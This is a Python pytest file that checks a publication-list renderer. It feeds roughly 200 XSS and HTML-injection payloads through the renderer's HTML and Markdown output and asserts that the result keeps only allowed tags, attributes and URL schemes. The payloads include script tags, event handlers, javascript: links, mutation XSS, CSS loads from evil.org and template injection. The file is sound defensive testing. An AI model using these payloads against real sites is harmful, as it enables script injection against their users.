"""Nothing that a field holds becomes code or reaches another entry's card."""

import re
from collections.abc import Mapping
from urllib.parse import unquote

import pytest
from markdown_it import MarkdownIt
from tests.render import trees
from tests.render.entries import FIELDS, NEXT, items, with_field

from publist import render
from publist.model.item import Item

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-open": "<script>alert(1)",
    "script-src": "<script src=//evil.org/x.js></script>",
    "script-slash": "<script/src=//evil.org/x.js>",
    "script-newline": "<script\n>alert(1)</script\n>",
    "script-null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-markdown": "*<script>*alert(1)*</script>*",
    "script-code": "`<script>alert(1)</script>`",
    "script-entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script-entity-twice": "&amp;lt;script&amp;gt;alert(1)",
    "script-math": "$<script>alert(1)</script>$",
    "script-math-brackets": r"\(<img src=x onerror=alert(1)>\)",
    "script-in-svg": "<svg><script>alert(1)</script></svg>",
    "script-in-math": "<math><mtext><script>alert(1)</script></mtext></math>",
    "svg-onload": "<svg/onload=alert(1)>",
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,x'></use></svg>",
    "math-href": "<math href='javascript:alert(1)'>x</math>",
    "mutation-math": "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src "
    "onerror=alert(1)>",
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation-template": "<template><script>alert(1)</script></template>",
    "mutation-select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-quotes": "<img src='x' onerror=\"alert(1)\">",
    "img-script": "<img src='javascript:alert(1)'>",
    "img-broken": '<img """><script>alert(1)</script>">',
    "img-markdown": "![x](javascript:alert(1))",
    "event-click": "<b onclick=alert(1)>x</b>",
    "event-slash": "<b/onmouseover=alert(1)>x</b>",
    "event-case": "<i OnMouseOver='alert(1)'>x</i>",
    "event-font": "<font color=red onfocus=alert(1) autofocus>x</font>",
    "event-span": "<span style='color:red' onclick=alert(1)>x</span>",
    "event-link": "<a href=/x onclick=alert(1)>x</a>",
    "event-details": "<details open ontoggle=alert(1)>x</details>",
    "event-video": "<video><source onerror=alert(1)></video>",
    "event-body": "<body onload=alert(1)>",
    "event-input": "<input autofocus onfocus=alert(1)>",
    "event-marquee": "<marquee onstart=alert(1)>x</marquee>",
    "style-element": "<style>*{display:none}</style>",
    "style-import": "<style>@import url(//evil.org/x.css)</style>",
    "style-expression": "<span style='width:expression(alert(1))'>x</span>",
    "style-url": "<span style='color:url(//evil.org/x)'>x</span>",
    "style-background": "<span style='background:url(javascript:alert(1))'>x</span>",
    "style-fixed": "<span style='color:red;position:fixed;top:0'>x</span>",
    "font-color": '<font color="red;background:url(//evil.org)">x</font>',
    "link-script": "<a href='javascript:alert(1)'>x</a>",
    "link-script-case": "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "link-script-blank": "<a href='  javascript:alert(1)'>x</a>",
    "link-script-tab": "<a href='java\tscript:alert(1)'>x</a>",
    "link-script-newline": "<a href='java\nscript:alert(1)'>x</a>",
    "link-script-control": "<a href='\x01javascript:alert(1)'>x</a>",
    "link-script-entity": "<a href='&#106;avascript&#58;alert(1)'>x</a>",
    "link-script-entity-long": "<a href='&#0000106avascript&#0000058alert(1)'>x</a>",
    "link-script-entity-name": "<a href='javascript&colon;alert(1)'>x</a>",
    "link-script-entity-tab": "<a href='jav&Tab;ascript&colon;alert(1)'>x</a>",
    "link-script-entity-twice": "<a href='javascript&amp;colon;alert(1)'>x</a>",
    "link-vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "link-data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "link-data-base64": "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "link-file": "<a href='file:///etc/passwd'>x</a>",
    "link-markdown": "[x](javascript:alert(1))",
    "link-markdown-entity": "[x](javascript&colon;alert(1))",
    "link-markdown-data": "[x](data:text/html,x)",
    "link-markdown-quote": '[x](http://x.org/"onclick="alert(1))',
    "link-autolink": "<javascript:alert(1)>",
    "link-autolink-data": "<data:text/html,x>",
    "address-script": "javascript:alert(1)",
    "address-script-case": " JAVASCRIPT:alert(1)",
    "address-script-tab": "java\tscript:alert(1)",
    "address-script-newline": "java\r\nscript:alert(1)",
    "address-script-control": "\x01\x1fjavascript:alert(1)",
    "address-script-entity": "javascript&#58;alert(1)",
    "address-script-percent": "javascript%3Aalert(1)",
    "address-script-zero": "java\x00script:alert(1)",
    "address-vbscript": "vbscript:msgbox(1)",
    "address-data": "data:text/html,<script>alert(1)</script>",
    "address-quote": 'http://x.org/" onclick="alert(1)',
    "address-tag": "http://x.org/'><script>alert(1)</script>",
    "address-blob": "blob:http://x.org/1",
    "address-view": "view-source:javascript:alert(1)",
    "quote-out": '"><script>alert(1)</script>',
    "quote-out-attribute": "' onerror='alert(1)",
    "backtick-attribute": "`onmouseover=alert(1)",
    "comment": "<!--><script>alert(1)</script>-->",
    "comment-open": "<!-- ",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "doctype": "<!DOCTYPE html><script>alert(1)</script>",
    "instruction": "<?xml version='1.0'?><script>alert(1)</script>",
    "frame": "<iframe src='javascript:alert(1)'></iframe>",
    "frame-srcdoc": "<iframe srcdoc='<script>alert(1)</script>'>",
    "object": "<object data='javascript:alert(1)'></object>",
    "embed": "<embed src='javascript:alert(1)'>",
    "base": "<base href='//evil.org/'>",
    "meta": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "link-element": "<link rel=stylesheet href=//evil.org/x.css>",
    "form": "<form action=javascript:alert(1)><button>x</button></form>",
    "button": "<button formaction=javascript:alert(1)>x</button>",
    "textarea": "<textarea><script>alert(1)</script></textarea>",
    "title-element": "<title><img src=x onerror=alert(1)></title>",
    "plaintext": "<plaintext>",
    "xmp": "<xmp><script>alert(1)</script></xmp>",
    "card-out": "</p></div></div></div><div class='row'><h1>mine</h1>",
    "card-out-list": "</li></ul><script>alert(1)</script>",
    "table-out": "<table><td>x",
    "class": "<span class='row' id='top'>x</span>",
    "kramdown-attribute": "x{:onclick='alert(1)'}",
    "kramdown-extension": "{::nomarkdown}<script>alert(1)</script>{:/}",
    "liquid": "{{ '<script>alert(1)</script>' }}",
    "liquid-include": "{% include x.html %}",
    "liquid-raw-end": "{% endraw %}{{ '<script>alert(1)</script>' }}{% raw %}",
    "liquid-halves": "{{ '<scr' }}{{ 'ipt>alert(1)</script>' }}",
    "liquid-entity": "&#123;&#123; '<script>alert(1)</script>' &#125;&#125;",
    "liquid-split": "{<b></b>{ site.title }<b></b>}",
    "front-matter": "---\nlayout: <b>\n---\n<script>alert(1)</script>",
    "marker": "<!-- publist:end --><script>alert(1)</script><!-- publist:begin -->",
    "comment-dashes": "<!-- --!><script>alert(1)</script>",
    "comment-nested": "<!--<!-- --><script>alert(1)</script>-->",
    "comment-conditional": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "script-uri-data": "<script src=data:text/javascript,alert(1)></script>",
    "script-svg-href": "<svg><script href=data:text/javascript,alert(1) /></svg>",
    "script-half": "<script>alert(1)<!-- </script><script>alert(1)",
    "script-double-less": "<<script>alert(1)//<</script>",
    "script-bom": "\ufeff<script>alert(1)</script>",
    "script-wide": "＜script＞alert(1)＜/script＞",
    "script-utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "script-tab": "<script\t>alert(1)</script\t>",
    "script-feed": "<\x0cscript>alert(1)</script>",
    "script-type-module": "<script type=module>alert(1)</script>",
    "script-import-map": '<script type=importmap>{"imports":{}}</script>',
    "script-json-end": '"}]}</script><script>alert(1)</script>',
    "svg-image": "<svg><image href=x onerror=alert(1)></svg>",
    "svg-set": "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "svg-link": "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "svg-foreign": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "svg-desc": "<svg><desc><![CDATA[</desc><img src=x onerror=alert(1)>]]></svg>",
    "svg-style": "<svg><style>@import '//evil.org/x.css';</style></svg>",
    "mutation-title": "<svg><title><a id='</title><img src=x onerror=alert(1)>'></svg>",
    "mutation-xmp": "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "mutation-desc-table": "<math><mtext><table><mglyph><style><!--</style><img title="
    "'--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "mutation-annotation": "<math><annotation-xml encoding='text/html'><script>alert(1)"
    "</script></annotation-xml></math>",
    "img-srcset": "<img srcset='x 1x' onerror=alert(1)>",
    "img-lowsrc": "<img lowsrc='javascript:alert(1)' dynsrc='javascript:alert(1)'>",
    "image-element": "<image src=x onerror=alert(1)>",
    "audio": "<audio src=x onerror=alert(1) autoplay>",
    "picture": "<picture><source srcset=//evil.org/x><img src=//evil.org/y></picture>",
    "event-animation": "<b style='animation-name:x' onanimationstart=alert(1)>x</b>",
    "event-pointer": "<mark onpointerenter=alert(1)>x</mark>",
    "event-focus-tab": "<u tabindex=1 onfocus=alert(1) autofocus>x</u>",
    "event-no-space": '<b"onclick=alert(1)>x</b>',
    "event-null": "<b on\x00click=alert(1)>x</b>",
    "event-content-visibility": "<i oncontentvisibilityautostatechange=alert(1) "
    "style='display:block;content-visibility:auto'>x</i>",
    "event-popover": "<button popovertarget=x>x</button><p popover id=x onbeforetoggle="
    "alert(1)>x</p>",
    "style-import-attribute": "<span style=\"@import '//evil.org/x'\">x</span>",
    "style-variable": "<span style='color:var(--x);--x:url(//evil.org)'>x</span>",
    "style-comment": "<span style='color:re/**/d;background:u/**/rl(//evil.org)'>x</span>",
    "style-escape": "<span style='\\62 ackground:url(//evil.org/x)'>x</span>",
    "style-behaviour": "<span style='behavior:url(x.htc);-moz-binding:url(x)'>x</span>",
    "style-cursor": "<i style='cursor:url(//evil.org/x),auto'>x</i>",
    "style-link": "<a href=/x style='position:fixed;inset:0;opacity:0'>x</a>",
    "link-ping": "<a href=/x ping=//evil.org target=_blank download>x</a>",
    "link-script-form-feed": "<a href='\x0cjavascript:alert(1)'>x</a>",
    "link-script-wide": "<a href='ｊavascript:alert(1)'>x</a>",
    "link-script-comment": "<a href='javascript://x.org/%0Aalert(1)'>x</a>",
    "link-script-url": "<a href='url:javascript:alert(1)'>x</a>",
    "link-script-backslash": "<a href='\\x01java\\nscript:alert(1)'>x</a>",
    "link-feed": "<a href='feed:javascript:alert(1)'>x</a>",
    "link-jar": "<a href='jar:javascript:alert(1)!/x'>x</a>",
    "link-intent": "<a href='intent://x#Intent;scheme=javascript;end'>x</a>",
    "link-filesystem": "<a href='filesystem:http://x.org/temporary/x'>x</a>",
    "link-no-break": "<a href='\u00a0javascript:alert(1)'>x</a>",
    "link-joiner": "<a href='java\u200bscript:alert(1)'>x</a>",
    "link-markdown-reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "link-markdown-title": "[x](http://x.org 'a\" onclick=\"alert(1)')",
    "link-markdown-angle": "[x](<javascript:alert(1)>)",
    "link-markdown-case": "[x](JaVaScRiPt&NewLine;:alert(1))",
    "image-markdown-event": '![x"onerror="alert(1)](x)',
    "address-slashes": "//evil.org/x",
    "address-backslashes": "\\\\evil.org\\x",
    "address-credentials": "https://x.org@evil.org/",
    "object-svg": "<object data='data:image/svg+xml,<svg onload=alert(1)>'></object>",
    "portal": "<portal src='javascript:alert(1)' onload=alert(1)></portal>",
    "shadow": "<div><template shadowrootmode=open><script>alert(1)</script></template>",
    "slot": "<slot onslotchange=alert(1)>x</slot>",
    "dialog": "<dialog open onclose=alert(1)><form method=dialog><button>x",
    "form-clobber": "<form id=x><input name=attributes><input name=parentNode></form>",
    "clobber": "<a id=filter name=main href=/x>x</a><img name=querySelector>",
    "preview": "<data value=1></data><aside class='preview'></aside>",
    "head-out": "</main></body></head></html><title>mine</title><script>alert(1)</script>",
    "frameset": "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "isindex": "<isindex action=javascript:alert(1) type=image>",
    "keygen": "<keygen autofocus onfocus=alert(1)>",
    "meta-csp": '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "meta-set-cookie": "<meta http-equiv=Set-Cookie content='x=<script>alert(1)</script>'>",
    "entity-without-end": "<img src=x onerror=&#97lert(1)>",
    "template-angular": "{{constructor.constructor('alert(1)')()}}",
    "template-other": "${alert(1)} #{alert(1)} <%= alert(1) %> <?= alert(1) ?>",
}
TAGS = frozenset(
    "root div pubtit img p ul li a abbr b bdi big br cite code del dfn em font i ins kbd "
    "mark q s samp small span strike strong sub sup tt u var".split()
)
OWN = {
    "div": {"class"},
    "p": {"class"},
    "img": {"src", "alt", "class", "width", "style"},
}
ALLOWED = OWN | {
    "a": {"href", "title"},
    "abbr": {"title"},
    "font": {"color"},
    "span": {"style"},
}
NOTHING: Mapping[str, set[str]] = {}


def check(tree: trees.Element, own: Mapping[str, set[str]] = NOTHING) -> None:
    """Fail for what no template writes; ``own`` are a template's further elements."""
    for node in trees.elements(tree):
        assert node.tag in TAGS | own.keys(), node.tag
        allowed = ALLOWED.get(node.tag, set()) | own.get(node.tag, set())
        assert set(node.attributes) <= allowed, node
        for name in ("href", "src"):
            check_address(node.attributes.get(name))
        style = node.attributes.get("style") or ""
        assert style in {"", "float: left"} or re.fullmatch(r"color:\s?\w+;?", style)


def check_address(address: str | None) -> None:
    """Read the scheme as the most generous browser would."""
    seen = re.sub(r"[\x00-\x20\x7f-\x9f]", "", unquote(address or ""))
    scheme = re.match(r"([^/?#:]*):", seen)
    assert scheme is None or scheme[1].lower() in {"http", "https", "mailto", "ftp"}


def beside_others(attack: str) -> list[Item]:
    """Return an entry for each field that holds an attack, a plain one behind each."""
    entries = ([with_field(field, attack), NEXT] for field in FIELDS)
    return items(*(entry for pair in entries for entry in pair))


@pytest.mark.parametrize("name", ATTACKS)
def test_cards(name: str) -> None:
    tree = trees.parse(
        render.render("html", beside_others(ATTACKS[name]), render.Options())
    )
    check(tree)
    last = trees.parse(render.render("html", items(NEXT, NEXT), render.Options()))
    rows = [row for row in tree.children if isinstance(row, trees.Element)]
    assert len(rows) == len(tree.children) == len(FIELDS)
    for field, row in zip(FIELDS, rows, strict=True):
        assert trees.find(row, "div")[3:] == trees.find(last, "div")[3:], field


@pytest.mark.parametrize("name", ATTACKS)
def test_markdown(name: str) -> None:
    text = render.render("markdown", beside_others(ATTACKS[name]), render.Options())
    assert "{{" not in text
    assert "{%" not in text
    tree = trees.parse(MarkdownIt("commonmark").render(text))
    check(tree)
    assert [node.tag for node in tree.children if isinstance(node, trees.Element)] == [
        "ul"
    ]
    shown = [trees.text_of(node) for node in trees.find(tree, "li")]
    assert shown[1::2] == ["Next. N. Ext. Next 1 (2020)."] * len(FIELDS)
